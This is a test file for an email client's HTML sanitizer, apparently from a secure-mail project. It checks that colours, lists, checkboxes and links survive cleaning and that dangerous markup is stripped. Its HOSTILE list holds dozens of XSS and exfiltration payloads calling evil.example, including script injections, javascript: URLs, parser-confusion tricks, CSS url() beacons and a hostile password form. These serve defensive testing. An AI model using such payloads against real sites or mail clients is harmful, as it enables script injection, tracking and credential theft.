// SPDX-License-Identifier: Apache-2.0
import { HOSTILE_HTML, honestHtml } from '@securemail/mime/testing';
import { canBeShown, readableHtml } from './readable-html.ts';

// The sanitizer requires it; whoever imports it beside that, at the same time, closes a circle.
const { parseDocument } = await import('htmlparser2');

const shown = (html: string) =>
  readableHtml(html, (contentId) =>
    contentId === 'logo@demo' ? 'data:image/png;base64,iVBORw0KGgo=' : null,
  );

interface Node {
  name?: string;
  attribs?: Record<string, string>;
  children?: Node[];
}
const elementsIn = (html: string): Node[] => {
  const all: Node[] = [];
  const walk = (node: Node) => {
    if (node.name !== undefined) all.push(node);
    node.children?.forEach(walk);
  };
  walk(parseDocument(html) as unknown as Node);
  return all;
};

it.each([
  ['text', '<h1>A</h1><p>b <em>c</em></p><ul><li>d</li></ul>'],
  [
    'tables',
    '<table width="100%" border="1"><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr></tbody></table>',
  ],
  ['colours and weights', '<p style="color:#333333;font-weight:bold;text-align:right">x</p>'],
])('leaves %s as it is', (_, html) => {
  expect(shown(html)).toBe(html);
});

describe('colours', () => {
  it.each([
    [
      'Word writes the head of a table with the ground in a shorthand',
      "<td style='border:solid #4472C4 1.0pt;background:#4472C4;padding:0cm'><span style='color:white'>x</span></td>",
      '<td style="background-color:#4472c4"><span style="color:#ffffff">x</span></td>',
    ],
    [
      'a highlighter',
      '<span style="background:yellow;mso-highlight:yellow">x</span>',
      '<span style="background-color:#ffff00">x</span>',
    ],
    [
      'a row',
      '<table><tr bgcolor="003366" style="color:#fff"><td>x</td></tr></table>',
      '<table><tr style="color:#ffffff;background-color:#003366"><td>x</td></tr></table>',
    ],
    [
      'a whole mail',
      '<body bgcolor="#000000" text="#ffffff"><p>x</p></body>',
      '<div style="color:#ffffff;background-color:#000000"><p>x</p></div>',
    ],
    [
      'green of Word, and what is half transparent',
      '<p style="color:#00B050">x</p><p style="background:rgba(0,0,0,.5)">y</p>',
      '<p style="color:#00b050">x</p><p style="background-color:#808080">y</p>',
    ],
    [
      'behind a picture that is not shown',
      '<p style="color:white;background:navy url(https://x.example/a.png) no-repeat">x</p>',
      '<p style="color:#ffffff;background-color:#000080">x</p>',
    ],
  ])('are kept: %s', (_, html, clean) => {
    expect(shown(html)).toBe(clean);
  });

  it.each([
    ['by a class', '<style>.h{background:#003}</style><div class=h><font color=white>x</font></div>'],
    ['by a gradient', '<div style="background-image:linear-gradient(#003,#006);color:#fff">x</div>'],
    ['by a picture', '<table background="https://x.example/a.png"><td style="color:#eee">x</td></table>'],
    ['by a variable', '<p style="background:var(--dark);color:hsl(0,0%,100%)">x</p>'],
    ['by none: it was to be unseen', '<p style="color:#fffffe">x</p><p style="color:transparent">y</p>'],
  ])('letters are not kept where their ground is given %s', (_, html) => {
    expect(shown(html)).not.toContain('color');
  });

  it('on a ground that is kept the letters can be read, whatever gave them their colour', () => {
    expect(shown('<td bgcolor="navy">x <a name="y">y</a></td>')).toBe(
      '<td style="color:#ffffff;background-color:#000080">x <a style="color:#ffffff">y</a></td>',
    );
    expect(shown('<div style="background:navy"><p style="color:#111">x</p></div>')).toBe(
      '<div style="color:#ffffff;background-color:#000080"><p>x</p></div>',
    );
    // Outside of it everything is as it was.
    expect(shown('<b style="background:navy">x</b><i style="color:white">y</i>')).toContain('<i>y</i>');
  });
});

it.each([
  ['<strike>a</strike> <s>b</s> <del>c</del>', '<s>a</s> <s>b</s> <del>c</del>'],
  [
    '<i style="text-decoration: underline line-through red">a</i>',
    '<i style="text-decoration:underline line-through">a</i>',
  ],
  ['<i style="text-decoration-line:line-through">a</i>', '<i style="text-decoration:line-through">a</i>'],
])('what is struck out is: %s', (html, clean) => {
  expect(shown(html)).toBe(clean);
});

it.each([
  [
    '<ol start=3 type=1><li>a</li><li value=7>b</li></ol>',
    '<ol start="3" style="list-style-type:decimal"><li>a</li><li value="7">b</li></ol>',
  ],
  ['<ol type=A reversed><li>a</ol>', '<ol reversed style="list-style-type:upper-alpha"><li>a</li></ol>'],
  [
    '<ol style="list-style:lower-roman inside"><li>a</li></ol>',
    '<ol style="list-style-type:lower-roman"><li>a</li></ol>',
  ],
  ['<ol start="1;x" style="list-style-type:url(x)"><li value="-">a</li></ol>', '<ol><li>a</li></ol>'],
])('the numbers of lists are those that were written: %s', (html, clean) => {
  expect(shown(html)).toBe(clean);
});

it('boxes are ticked or not, as in a form', () => {
  expect(shown('<input type=checkbox checked> a <INPUT TYPE=radio> b <input type=text value=x>')).toBe(
    '<span>☒</span> a <span>☐</span> b ',
  );
});

it('what is a sign in a font of Windows is that sign', () => {
  expect(
    shown(
      '<font face="Wingdings">&#254; &lt;</font> <span style=\'font-family:Wingdings\'>&#61608;<b style="font-family:Arial">&#252;</b></span> <span style="font-family:Symbol">&#183;</span> &#254;',
    ),
  ).toBe('<font>☑ &lt;</font> <span>☐<b>ü</b></span> <span>•</span> þ');
});

it('shows pictures of the mail, and of others their words', () => {
  expect(shown('<img src="cid:logo@demo" alt="Logo">')).toBe(
    '<img alt="Logo" src="data:image/png;base64,iVBORw0KGgo=" />',
  );
  expect(shown('<img src="cid:other@demo"><img src="data:image/png;base64,AA==">')).toBe('');
  expect(shown('<img src="https://t.example/x.gif" alt="A map">')).toBe('<img alt="A map" />');
});

it('shows where a link leads, and tells whoever is there nothing', () => {
  expect(shown('<a href="https://x.example/?a=1&amp;b=2" target="_top" title="Your bank">go</a>')).toBe(
    '<a href="https://x.example/?a=1&amp;b=2" title="https://x.example/?a=1&amp;b=2" data-leads-to="x.example" rel="noopener noreferrer nofollow" target="_blank">go</a>',
  );
});

it.each([
  ['https://demo.example@evil.example/demo.example', 'evil.example'],
  ['https://dem\u043e.example:8443/', 'xn--dem-ued.example:8443'],
  ['mailto:anna@demo.example?subject=x', 'anna@demo.example'],
  ['tel:+4512345678', '+4512345678'],
  [
    `https://demo.example.${'a'.repeat(60)}.${'b'.repeat(60)}.evil.example/`,
    `…${'a'.repeat(26)}.${'b'.repeat(60)}.evil.example`,
  ],
])('shows behind a link to %s that it leads to %s, whatever the mail says', (href, to) => {
  expect(shown(`<a href="${href}" data-leads-to="demo.example">demo.example</a>`)).toContain(
    `data-leads-to="${to}"`,
  );
});

/** https://portswigger.net/web-security/cross-site-scripting/cheat-sheet, https://cheatsheetseries.owasp.org, and of our own. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)" alt=x>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href=" &#x1;javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; input[value^=a]{background:url(https://evil.example/a)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background-color:url(https://evil.example/x)">x</p>',
  '<p style="background:#fff url(//evil.example/x)">x</p>',
  '<p style="background:red;}body{background:url(//evil.example)}">x</p>',
  '<tr bgcolor="url(https://evil.example/x)" background="https://evil.example/x"><td>x</tr>',
  '<body bgcolor="red;background:url(https://evil.example/x)" text="red}" onload=alert(1)>x</body>',
  '<font color="red;background:url(//evil.example)" face="Wingdings" onclick=alert(1)>x</font>',
  '<ol type="constructor" start="url(//evil.example)" style="list-style:url(//evil.example) inside"><li>x</ol>',
  '<i style="text-decoration:underline url(//evil.example)">x</i>',
  '<input type=checkbox onfocus=alert(1) autofocus checked id=x>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99">x</p>',
  '<p style="display:none;font-size:0">x</p>',
  '<p style="width:1px;color:red}body{background:url(//evil.example)}">x</p>',
  '<body onload=alert(1) background="https://evil.example/x">x</body>',
  '<table background="https://evil.example/x"><td background="https://evil.example/y">x</table>',
  '<video src="https://evil.example/x" autoplay></video><audio src="https://evil.example/x"></audio>',
  '<img srcset="https://evil.example/x 2x" alt=x><picture><source srcset="https://evil.example/y"></picture>',
  '<input type=image src="https://evil.example/x">',
  '<div onmouseover=alert(1) id=login name=csrf class=x>x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a ping="https://evil.example" href="https://ok.example" download>x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<portal src="https://evil.example"></portal><dialog open>x</dialog>',
  '<img alt="`><script>alert(1)</script>" src="cid:logo@demo">',
  '<img alt=\'"onerror=alert(1) x="\' src="cid:logo@demo">',
];
const TAGS = new Set(
  'a abbr address article aside b bdi bdo blockquote br caption center cite code col colgroup data dd del dfn div dl dt em figcaption figure font h1 h2 h3 h4 h5 h6 hgroup hr i img ins kbd li mark menu ol p pre q rb rp rt rtc ruby s samp section small span strong sub sup table tbody td tfoot th thead time tr u ul var wbr'.split(
    ' ',
  ),
);

it.each(HOSTILE)('leaves nothing that acts, loads or hides: %s', (html) => {
  const clean = shown(html);
  for (const { name, attribs = {} } of elementsIn(clean)) {
    expect(TAGS).toContain(name);
    for (const [attribute, value] of Object.entries(attribs)) {
      expect(attribute).not.toMatch(
        /^on|^(srcset|background|ping|id|name|class|formaction|action|download)$/,
      );
      if (attribute === 'href') expect(value).toMatch(/^(https?|mailto|tel):/);
      if (attribute === 'src') expect(value).toBe('data:image/png;base64,iVBORw0KGgo=');
      if (attribute === 'style')
        expect(value).not.toMatch(/url|expression|position|display|font-size|[{}\\]/i);
    }
  }
  // What was cleaned is clean.
  expect(readableHtml(clean, () => null).replaceAll(/<img[^>]*>/g, '')).toBe(
    clean.replaceAll(/<img[^>]*>/g, ''),
  );
});

describe('HTML that is hostile to parsers', () => {
  const OCTETS = 400_000;
  /** The least of three: what else runs on the machine takes its time, too. */
  const millisecondsFor = (html: string): number =>
    Math.min(
      ...[1, 2, 3].map(() => {
        const from = performance.now();
        if (canBeShown(html)) readableHtml(html, () => null);
        return performance.now() - from;
      }),
    );
  beforeAll(() => millisecondsFor(honestHtml(OCTETS)));

  it.each(HOSTILE_HTML)('takes about as long as honest HTML: %s', (_, hostile) => {
    expect(canBeShown(honestHtml(OCTETS))).toBe(true);
    const honest = millisecondsFor(honestHtml(OCTETS));
    expect(millisecondsFor(hostile(OCTETS)) / honest).toBeLessThan(10);
  });

  it('is not shown where elements lie very deep in each other, or where there is very much of it', () => {
    expect(canBeShown('<div>'.repeat(501))).toBe(false);
    expect(canBeShown('<div>'.repeat(400))).toBe(true);
    expect(canBeShown('<b>x</b>'.repeat(130_000))).toBe(false);
    expect(canBeShown('x'.repeat(3_000_000))).toBe(false);
  });
});

it('a style that is longer than any is left out', () => {
  expect(shown(`<p style="${'color:red;'.repeat(2_000)}">x</p>`)).toBe('<p>x</p>');
});

it('what is in a frame nobody shows', () => {
  expect(shown('a<iframe>b<b>c</b></iframe>d')).toBe('ad');
});
